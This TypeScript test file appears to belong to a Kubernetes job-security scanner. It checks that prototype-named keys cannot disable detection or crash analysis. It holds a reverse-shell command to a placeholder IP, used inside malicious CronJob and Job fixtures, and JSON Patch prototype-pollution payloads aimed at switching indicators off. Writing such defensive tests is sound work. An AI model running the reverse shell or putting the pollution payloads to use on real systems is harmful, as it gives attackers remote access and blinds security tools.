/**
 * Keys that name Object.prototype's own members (`__proto__`, `constructor`, `hasOwnProperty`, …) are
 * ordinary text to a detector: an audit log, a manifest or a config file may hold them anywhere. Each
 * test here is a route that once let such a key change the shared prototype (and so switch indicators
 * off for the rest of the process) or crash the analysis of the object that carried it.
 */
import assert from 'node:assert/strict';
import { afterEach, describe, test } from 'node:test';
import { analyseManifest, formatText, parseConfig, type Indicator } from '../src/index.js';
import { compilePolicy } from '../src/entries/policy.js';
import { cronJobObject, jobObject, scan } from './fixtures/audit/canonical.ts';
import { assertPrototypeUntouched, PROTOTYPE_KEYS, restorePrototype } from './prototype-guard.ts';

afterEach(restorePrototype);

const REVERSE_SHELL = 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1';

function kubeEvent(auditID: string, verb: string, requestObject: unknown, objectRef: Record<string, unknown> = {}): Record<string, unknown> {
  return {
    kind: 'Event',
    apiVersion: 'audit.k8s.io/v1',
    level: 'RequestResponse',
    auditID,
    stage: 'ResponseComplete',
    requestURI: '/apis/batch/v1/namespaces/ci/cronjobs',
    verb,
    user: { username: 'mallory' },
    objectRef: { resource: 'cronjobs', namespace: 'ci', name: 'build', apiGroup: 'batch', apiVersion: 'v1', ...objectRef },
    responseStatus: { code: verb === 'patch' ? 422 : 201 },
    requestObject,
    stageTimestamp: '2026-03-02T10:00:00Z',
  };
}

const maliciousCreate = (auditID = 'create-1') =>
  kubeEvent(auditID, 'create', cronJobObject('build', 'ci', { containers: [{ name: 'x', image: 'registry.example.com/app:1', command: ['sh', '-c', REVERSE_SHELL] }] }));

/** Each indicator once, in order: a reverse shell is one `shell-escape` hit per technique it uses. */
const indicatorsOf = (match: { indicators: Array<{ indicator: string }> }) => [...new Set(match.indicators.map((hit) => hit.indicator))];

const lines = (...records: unknown[]) => records.map((record) => (typeof record === 'string' ? record : JSON.stringify(record))).join('\n') + '\n';

/** A JSON text with a literal `__proto__` member, as an attacker writes it (JSON.stringify of an object literal would drop it). */
const protoJson = (inner: string) => `{"__proto__":${inner}}`;

describe('a JSON Patch cannot reach Object.prototype', () => {
  const patches: Array<[string, string]> = [
    ['add at /__proto__/<id>', `[{"op":"add","path":"/__proto__/shell-escape","value":"off"}]`],
    ['replace at /__proto__/<id>', `[{"op":"replace","path":"/__proto__/shell-escape","value":"off"}]`],
    ['add under an object the patch wrote', `[{"op":"add","path":"/spec","value":{}},{"op":"add","path":"/spec/__proto__/shell-escape","value":"off"}]`],
    ['add at /constructor/prototype/<id>', `[{"op":"add","path":"/constructor/prototype/shell-escape","value":"off"}]`],
    ['add of the whole object holding __proto__', `[{"op":"add","path":"","value":${protoJson('{"shell-escape":"off"}')}}]`],
    ['copy and move from prototype keys', `[{"op":"copy","from":"/__proto__","path":"/x"},{"op":"move","from":"/constructor","path":"/y"},{"op":"test","path":"/__proto__","value":1},{"op":"remove","path":"/__proto__/toString"}]`],
  ];
  for (const [name, patch] of patches) {
    test(`${name}: a later malicious create is still reported`, async () => {
      const patchEvent = JSON.stringify(kubeEvent('patch-1', 'patch', null)).replace('"requestObject":null', `"requestObject":${patch}`);
      const { matches, problems } = await scan(lines(patchEvent, maliciousCreate()));
      assertPrototypeUntouched();
      assert.deepEqual(problems, []);
      assert.deepEqual(
        matches.filter((match) => match.auditID === 'create-1').map(indicatorsOf),
        [['shell-escape']],
      );
    });
  }

  test('a merge patch body holding __proto__ is judged as written', async () => {
    const body = protoJson(`{"spec":{"jobTemplate":{"spec":{"template":{"spec":{"containers":[{"name":"x","image":"a","command":["sh","-c","${REVERSE_SHELL}"]}]}}}}}}`);
    const patchEvent = JSON.stringify(kubeEvent('patch-1', 'patch', null)).replace('"requestObject":null', `"requestObject":${body}`);
    const { matches } = await scan(lines(patchEvent, maliciousCreate()));
    assertPrototypeUntouched();
    assert.deepEqual(matches.map((match) => match.auditID), ['create-1']);
  });
});

describe('Elastic dotted keys cannot reach Object.prototype', () => {
  const document = (extra: Record<string, unknown>) => ({
    '@timestamp': '2026-03-02T10:00:00Z',
    'kubernetes.audit.verb': 'create',
    'kubernetes.audit.auditID': 'elastic-1',
    'kubernetes.audit.objectRef.resource': 'cronjobs',
    'kubernetes.audit.objectRef.namespace': 'ci',
    'kubernetes.audit.requestObject': cronJobObject('build', 'ci', { containers: [{ name: 'x', image: 'a', command: ['sh', '-c', REVERSE_SHELL] }] }),
    ...extra,
  });
  for (const key of ['__proto__.shell-escape', 'kubernetes.__proto__.shell-escape', 'constructor.prototype.shell-escape', 'kubernetes.audit.__proto__.verb']) {
    test(`"${key}"`, async () => {
      const { matches, problems } = await scan(lines(document({ [key]: 'off' }), document({ 'kubernetes.audit.auditID': 'elastic-2' })));
      assertPrototypeUntouched();
      assert.deepEqual(problems, []);
      assert.deepEqual(matches.map((match) => [match.auditID, indicatorsOf(match)]), [
        ['elastic-1', ['shell-escape']],
        ['elastic-2', ['shell-escape']],
      ]);
    });
  }
});

describe('program names that are prototype keys', () => {
  for (const name of PROTOTYPE_KEYS) {
    const script = `if false; then ${name} -x; fi; ${name} -e -c -v --values x; ${REVERSE_SHELL}`;
    test(`scan: "${name} -x" leaves the rest of the script judged`, () => {
      const manifest = JSON.stringify(jobObject('x', 'ci', { containers: [{ name: 'x', image: 'a', command: ['sh', '-c', script] }] }));
      const result = analyseManifest(manifest, 'job.json');
      assertPrototypeUntouched();
      assert.deepEqual(result.errors, []);
      assert.deepEqual([...new Set(result.findings.map((finding) => finding.indicator))], ['shell-escape']);
    });

    test(`audit: "${name} -x" in one record does not stop the log`, async () => {
      const hostile = kubeEvent('hostile', 'create', jobObject('x', 'ci', { containers: [{ name: 'x', image: 'a', command: ['sh', '-c', script] }] }), { resource: 'jobs' });
      const { matches, problems } = await scan(lines(hostile, maliciousCreate()));
      assertPrototypeUntouched();
      assert.deepEqual(problems, []);
      assert.deepEqual(matches.map((match) => match.auditID), ['hostile', 'create-1']);
    });

    test(`audit: a resource named "${name}" is not a job write`, async () => {
      const { summary } = await scan(lines(kubeEvent('odd', 'create', { kind: 'Thing' }, { resource: name, apiGroup: null })));
      assert.equal(summary.jobWrites, 0);
    });
  }
});

describe('config ids that are prototype keys', () => {
  test('a custom pattern with id "constructor" gets its severity, and text output renders it', () => {
    const { config, errors } = parseConfig('custom:\n  patterns:\n    - id: constructor\n      pattern: "evil"\n', '.jobsentinel.yaml');
    assert.deepEqual(errors, []);
    const manifest = JSON.stringify(jobObject('x', 'ci', { containers: [{ name: 'x', image: 'evil:1' }] }));
    const result = analyseManifest(manifest, 'job.json', { config });
    assert.deepEqual(result.findings.map((finding) => [finding.indicator, finding.severity]), [['constructor', 'warning']]);
    assert.match(formatText({ files: [{ file: 'job.json', result }], errors: [] }), /warning +constructor/);
  });

  test('severity: of a prototype-named custom id is its own setting, never an inherited one', () => {
    const { config } = parseConfig('severity:\n  to-string: error\ncustom:\n  patterns:\n    - {id: to-string, pattern: evil}\n    - {id: constructor, pattern: evil}\n', 'c.yaml');
    const manifest = JSON.stringify(jobObject('x', 'ci', { containers: [{ name: 'x', image: 'evil:1' }] }));
    assert.deepEqual(
      analyseManifest(manifest, 'job.json', { config }).findings.map((finding) => [finding.indicator, finding.severity]),
      [['to-string', 'error'], ['constructor', 'warning']],
    );
  });

  test('the admission policy gives a custom pattern with id "constructor" its own severity', () => {
    const { config } = parseConfig('custom:\n  patterns:\n    - {id: constructor, pattern: evil}\n', '.jobsentinel.yaml');
    const severities = new Map(compilePolicy({ config }).validations.map((validation) => [validation.indicator, validation.severity]));
    assert.equal(severities.get('constructor'), 'warning');
    assert.ok([...severities.values()].every((severity) => ['error', 'warning', 'information', 'hint'].includes(severity)));
  });

  for (const key of PROTOTYPE_KEYS) {
    test(`severity and ignore entries naming "${key}" are errors and change nothing`, () => {
      const text = `severity:\n  "${key}": off\nignore:\n  - indicators: ["${key}"]\n`;
      const { config, errors } = parseConfig(text, '.jobsentinel.yaml');
      assertPrototypeUntouched();
      assert.equal(errors.length, 2);
      assert.deepEqual(Object.keys(config.severity), []);
      assert.deepEqual(config.ignore, []);
    });
  }
});

describe('an exception while judging one object does not stop the run', () => {
  /** An indicator that trips over one particular container, as a check with a bug would. */
  const fragile: Indicator = {
    id: 'fragile',
    title: 'Fragile',
    summary: '',
    profile: 'extended',
    severity: 'warning',
    description: '',
    remediation: '',
    falsePositives: '',
    attack: { technique: 'T1053.007', name: '', tactics: [], url: '' } as unknown as Indicator['attack'],
    check(template, report) {
      for (const ref of template.containers) {
        if (ref.container.name === 'boom') throw new TypeError('cannot read properties of undefined');
        report({ path: ref.path, message: 'seen', evidence: ref.container.name ?? '' });
      }
    },
  };

  test('scan: the template is an error at its own lines; the next template is still judged', () => {
    const manifest = [
      JSON.stringify(jobObject('a', 'ci', { containers: [{ name: 'boom', image: 'a' }] })),
      JSON.stringify(jobObject('b', 'ci', { containers: [{ name: 'fine', image: 'a' }] })),
    ].join('\n'); // a stream of JSON objects, as kubectl reads a file that starts with `{`
    const result = analyseManifest(manifest, 'two.yaml', { indicators: [fragile] });
    assert.equal(result.errors.length, 1);
    assert.match(result.errors[0].message, /could not analyse the pod template of Job "a": cannot read properties of undefined/);
    assert.equal(result.errors[0].range.start.line, 1);
    assert.deepEqual(result.findings.map((finding) => finding.name), ['b']);
  });

  test('audit: the record is an error with its line; the next records are still judged', async () => {
    const boom = kubeEvent('boom', 'create', jobObject('a', 'ci', { containers: [{ name: 'boom', image: 'a' }] }), { resource: 'jobs' });
    const fine = kubeEvent('fine', 'create', jobObject('b', 'ci', { containers: [{ name: 'fine', image: 'a' }] }), { resource: 'jobs' });
    const { matches, problems, summary } = await scan(lines(fine, boom, fine), { indicators: [fragile] });
    assert.deepEqual(matches.map((match) => match.auditID), ['fine']);
    assert.deepEqual(problems.map((problem) => [problem.line, problem.severity, problem.fatal]), [[2, 'error', undefined]]);
    assert.match(problems[0].message, /could not analyse this audit event: cannot read properties of undefined/);
    assert.doesNotMatch(problems[0].message, /\n\s+at /, 'no stack trace');
    assert.equal(summary.malformed, 1);
  });
});
